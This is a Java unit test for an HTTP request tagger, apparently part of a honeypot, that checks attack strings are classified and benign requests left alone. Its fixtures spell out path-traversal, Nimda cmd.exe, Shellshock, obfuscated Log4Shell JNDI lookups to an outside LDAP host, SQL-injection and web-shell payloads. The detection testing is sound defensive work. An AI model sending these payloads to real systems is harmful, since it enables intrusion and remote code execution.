package dev.mirage.service.http;

import static org.assertj.core.api.Assertions.assertThat;

import dev.mirage.event.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

/** One test per tag: the attack forms it must see, and ordinary requests it must leave alone. */
class TaggerTest {
    private static List<String> tags(String target, String body, HttpRequest.Header... headers) {
        return Tagger.tags(new Request("GET", target, "HTTP/1.1", Request.HTTP_1_1, false, List.of(headers),
                body.getBytes(StandardCharsets.ISO_8859_1), false, Request.Problem.NONE, null));
    }

    private static List<String> tags(String target) {
        return tags(target, "");
    }

    private static HttpRequest.Header h(String name, String value) {
        return new HttpRequest.Header(name, value);
    }

    @Test
    void ordinaryRequestsHaveNoTags() {
        assertThat(tags("/")).isEmpty();
        assertThat(tags("/index.html?page=2&sort=name")).isEmpty();
        assertThat(tags("/docs/a..b.html", "", h("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"))).isEmpty();
    }

    @Test
    void pathTraversal() {
        assertThat(tags("/../../etc/passwd")).contains("path-traversal");
        assertThat(tags("/%2e%2e/%2e%2e/etc/passwd")).contains("path-traversal");
        assertThat(tags("/icons/..%2f..%2fetc/passwd")).contains("path-traversal");
        assertThat(tags("/%252e%252e/etc/passwd")).contains("path-traversal");
        assertThat(tags("/cgi-bin/.%2e/.%2e/bin/sh")).contains("path-traversal");
        assertThat(tags("/a/..\\..\\boot.ini")).contains("path-traversal");
    }

    @Test
    void codeRed() {
        assertThat(tags("/default.ida?" + "N".repeat(224) + "%u9090%u6858%ucbd3")).contains("code-red");
        assertThat(tags("/default.ida?" + "X".repeat(224) + "%u9090")).contains("code-red");
        assertThat(tags("/default.ida")).doesNotContain("code-red");
    }

    @Test
    void nimda() {
        assertThat(tags("/scripts/root.exe?/c+dir")).contains("nimda");
        assertThat(tags("/c/winnt/system32/cmd.exe?/c+dir")).contains("nimda");
        assertThat(tags("/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir")).contains("nimda", "path-traversal");
        assertThat(tags("/_vti_bin/..%255c../..%255c../winnt/system32/cmd.exe?/c+dir")).contains("nimda");
    }

    @Test
    void shellshock() {
        assertThat(tags("/cgi-bin/test.cgi", "", h("User-Agent", "() { :; }; /bin/bash -c 'id'"))).contains("shellshock");
        assertThat(tags("/", "", h("Referer", "() {  _; } >_[$($())] { echo hi; }"))).contains("shellshock");
        assertThat(tags("/", "", h("User-Agent", "curl/7.81.0"))).doesNotContain("shellshock");
    }

    @Test
    void jndi() {
        assertThat(tags("/", "", h("User-Agent", "${jndi:ldap://198.51.100.7:1389/a}"))).contains("jndi");
        assertThat(tags("/", "", h("X-Api-Version", "${${lower:j}ndi:${lower:l}dap://x/a}"))).contains("jndi");
        assertThat(tags("/", "", h("X-Forwarded-For", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"))).contains("jndi");
        assertThat(tags("/", "", h("Referer", "${${env:NOTHING:-j}ndi${env:NOTHING:-:}ldap://x/a}"))).contains("jndi");
        assertThat(tags("/?x=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D")).contains("jndi");
        assertThat(tags("/", "q=${JNDI:dns://x}")).contains("jndi");
        assertThat(tags("/", "", h("X-Template", "${user.name}"))).doesNotContain("jndi");
    }

    @Test
    void sqlInjection() {
        assertThat(tags("/item.php?id=1+UNION+SELECT+user,password+FROM+users")).contains("sql-injection");
        assertThat(tags("/item.php?id=1%20union/**/all/**/select%201,2")).contains("sql-injection");
        assertThat(tags("/login.php", "user=admin&pass=' OR '1'='1")).contains("sql-injection");
        assertThat(tags("/item.php?id=1 AND sleep(5)")).contains("sql-injection");
        assertThat(tags("/item.php?id=1;WAITFOR DELAY '0:0:5'--")).contains("sql-injection");
        assertThat(tags("/search?q=union+station&page=select")).doesNotContain("sql-injection");
    }

    @Test
    void webShell() {
        assertThat(tags("/shell.php")).contains("web-shell");
        assertThat(tags("/uploads/c99.php?act=ls")).contains("web-shell");
        assertThat(tags("/r57.php")).contains("web-shell");
        assertThat(tags("/cmd.php")).contains("web-shell");
        assertThat(tags("/wp-content/plugins/x/wso.php")).contains("web-shell");
        assertThat(tags("/index.php?cmd=id")).contains("web-shell");
        assertThat(tags("/x.cgi?a=1&exec=uname%20-a")).contains("web-shell");
        assertThat(tags("/shell.html")).doesNotContain("web-shell");
    }

    @Test
    void hostileSizesStayCheap() {
        long t = System.nanoTime();
        String junk = "union/*" .repeat(10_000) + "select" + "'".repeat(10_000) + "${".repeat(10_000);
        tags("/?" + junk, junk, h("X", junk));
        assertThat((System.nanoTime() - t) / 1_000_000).isLessThan(2000);
    }
}
